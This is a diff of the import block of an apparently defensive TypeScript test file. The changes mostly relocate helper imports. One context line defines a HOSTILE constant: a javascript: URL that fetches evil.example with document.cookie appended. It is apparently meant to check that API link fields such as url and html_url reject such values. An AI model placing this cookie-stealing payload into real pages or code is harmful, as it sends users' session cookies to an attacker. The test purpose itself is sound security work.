@@ -1,14 +1,14 @@
 import { beforeAll, describe, expect, it } from 'vitest'
 import type { ApiDocument } from '../../api/openapi/types.ts'
 import { verify } from '../../projections/verify/verify.ts'
-import type { LogEvent } from '../../schemas/event.ts'
+import type { LogEvent } from '../../schemas/log/event.ts'
 import { goldenLog } from '../legislature/golden-log.ts'
-import { encodeLog } from '../projections/log-source.ts'
-import { produce } from '../projections/produce.ts'
-import { createSetting, project, type Setting } from '../projections/projecting.ts'
-import { createTestApi, type TestApi } from '../support/api.ts'
-import { collectionsOf } from '../support/every-collection.ts'
-import { createTestTopics } from '../support/topics.ts'
+import { encodeLog } from '../projections/support/log-source.ts'
+import { produce } from '../projections/support/produce.ts'
+import { createSetting, project, type Setting } from '../projections/support/projecting.ts'
+import { collectionsOf } from '../support/api/every-collection.ts'
+import { createTestApi, type TestApi } from '../support/api/test-api.ts'
+import { createTestTopics } from '../support/log/topics.ts'
 
 const HOSTILE = "javascript:fetch('https://evil.example/'+document.cookie)"
 const LINKS = new Set(['url', 'image', 'html_url', 'pdf_url', 'text_url', 'comment_url'])
